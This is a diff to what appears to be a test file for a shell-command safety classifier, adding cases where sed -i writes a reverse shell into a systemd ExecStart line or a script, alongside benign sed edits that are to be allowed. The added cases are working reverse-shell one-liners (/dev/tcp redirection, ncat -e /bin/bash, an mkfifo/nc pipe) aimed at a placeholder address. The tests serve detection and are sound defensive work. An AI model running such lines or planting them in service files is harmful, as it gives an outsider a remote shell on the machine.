@@ -25,7 +25,9 @@ classes fixed here are the steps around them:
   written into ``/usr/share/pam-configs``: blocked, as ``/etc/pam.d`` is.
 - (after the held-out part was measured at the end: its known miss) a shell start-up file written in a
   directory named at run time (``echo "$cmd" >> "$user/.bashrc"`` in a loop over ``/home/*``): asked,
-  as ``~/.bashrc`` is.
+  as ``~/.bashrc`` is; a remote shell put into a file by ``sed -i`` (appended, a line changed, or the
+  replacement of a substitution: a unit's ``ExecStart=`` made a reverse shell): blocked, as ``echo … >> FILE``
+  is.
 
 The commands are variants written for the tests, not the measured lines.
 """
@@ -88,9 +90,18 @@ HELD = {
         'tee -a "${target_home}/.bash_profile" < snippet.sh',
         'cp rc "$U/.profile"',
     ],
+    "remote shell put in by sed -i": [
+        "sed -i '/^ExecStartPre=/c\\ExecStartPre=/bin/sh -c \"sh -i >& /dev/tcp/198.51.100.7/9001 0>&1\"' "
+        '"$unit"',
+        "sed -i 's#^ExecStart=.*#ExecStart=/usr/bin/ncat 198.51.100.7 9001 -e /bin/bash#' /tmp/web.service",
+        "sed -i -e '1i rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 9001 >/tmp/f' run.sh",
+    ],
 }
 
 ALLOWED = [
+    "sed -i 's#^ExecStart=.*#ExecStart=/usr/bin/node /srv/app/server.js#' deploy/app.service",
+    "sed -i '$a export NODE_ENV=production' scripts/env.sh",
+    "sed 's/nc -e/ncat -e/' notes.md",
     'grep -n alias "$h/.bashrc"',
     'echo done >> "$dir/bashrc.log"',
     "incrontab -l",
